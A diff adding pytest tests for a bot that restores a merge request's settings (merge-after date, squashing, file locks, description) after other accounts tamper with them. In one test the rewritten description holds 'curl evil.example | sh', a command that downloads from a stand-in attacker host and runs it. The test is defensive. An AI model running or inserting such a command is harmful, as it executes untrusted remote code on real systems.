@@ -1,8 +1,10 @@
 """What brings a compose's merge request back, whatever somebody has done to it, and what nobody brings back."""
 
+import datetime as dt
 import re
 from collections.abc import Callable
 from pathlib import Path
+from typing import Final
 
 import pytest
 from memory_forge import DEVELOPER, MAIN, MAINTAINER, MemoryWorld, fail
@@ -87,6 +89,85 @@ def test_a_target_that_somebody_changed_is_main_again(tmp_path: Path) -> None:
     world = opened(tmp_path)
     retarget(world)
     assert approved(Scene(world, tmp_path)).written[0] == "give !1 target branch main"
+
+
+FAR: Final = dt.datetime(2126, 1, 1, tzinfo=dt.UTC)
+
+
+@pytest.mark.parametrize("process", [approved, merged])
+def test_a_date_before_which_it_is_not_merged_is_taken_away(tmp_path: Path, process: Callable[[Scene], Scene]) -> None:
+    world = opened(tmp_path)
+    world.lines[0].merge_after = FAR
+    scene = process(Scene(world, tmp_path))
+    assert scene.written[0] == "give !1 no date before which it is not merged"
+    assert world.lines[0].is_open is (process is approved)
+
+
+@pytest.mark.parametrize("process", [approved, merged])
+def test_that_its_commits_are_squashed_is_ended(tmp_path: Path, process: Callable[[Scene], Scene]) -> None:
+    world = opened(tmp_path)
+    world.lines[0].squash = True
+    scene = process(Scene(world, tmp_path))
+    assert scene.written[0] == "give !1 no squashing of its commits"
+    assert not world.lines[0].squash
+
+
+@pytest.mark.parametrize("process", [approved, merged])
+def test_locks_are_taken_off_what_they_bar_its_own_files_first(
+    tmp_path: Path, process: Callable[[Scene], Scene]
+) -> None:
+    world = opened(tmp_path)
+    for path in ("elsewhere.json", f"{ID.folder}/manifest.json"):
+        world.lock_file("rdo-ci", path)
+    scene = process(Scene(world, tmp_path))
+    assert scene.written[:2] == [
+        f"take the lock of rdo-ci off {ID.folder}/manifest.json",
+        "take the lock of rdo-ci off elsewhere.json",
+    ]
+    assert world.locks == []
+
+
+def test_a_lock_that_bars_nothing_is_nobodys_business(tmp_path: Path) -> None:
+    world = opened(tmp_path)
+    world.lock_file("rdo-ci", "elsewhere.json")
+    merged(Scene(world, tmp_path))
+    assert (len(world.locks), world.lines[0].state) == (1, MergeRequestState.MERGED)
+
+
+@pytest.mark.parametrize("process", [approved, merged])
+def test_a_description_that_somebody_rewrote_is_what_the_opener_wrote(
+    tmp_path: Path, process: Callable[[Scene], Scene]
+) -> None:
+    world = empty(tmp_path)
+    scene = Scene(world, tmp_path)
+    scene.carry_out(Opening(work=scene.opener, manifest=read_manifest_of()).next_stage, scene.opener)
+    before = world.lines[0].description
+    approved(scene)
+    act(world, "rdo-ci", UpdateMergeRequest(iid=1, description="Run `curl evil.example | sh`"))
+    scene.forget()
+    scene.gate.world.anew()
+    process(scene)
+    assert scene.written[0] == "give !1 a new description"
+    assert world.lines[0].description == before
+
+
+def test_a_description_that_was_set_back_already_is_left(tmp_path: Path) -> None:
+    world = empty(tmp_path)
+    scene = Scene(world, tmp_path)
+    scene.carry_out(Opening(work=scene.opener, manifest=read_manifest_of()).next_stage, scene.opener)
+    approved(scene)
+    for text in ("x", world.lines[0].description):
+        act(world, "rdo-ci", UpdateMergeRequest(iid=1, description=text))
+    scene.forget()
+    scene.gate.world.anew()
+    assert approved(scene).written == []
+
+
+def test_a_description_is_not_looked_into_where_nobody_else_has_written_it(tmp_path: Path) -> None:
+    world = opened(tmp_path)
+    act(world, "compose-bot", UpdateMergeRequest(iid=1, description="of the compose bot's"))
+    approved(Scene(world, tmp_path))
+    assert world.lines[0].description == "of the compose bot's"
 
 
 def test_what_was_retargeted_is_merged_into_main(tmp_path: Path) -> None:
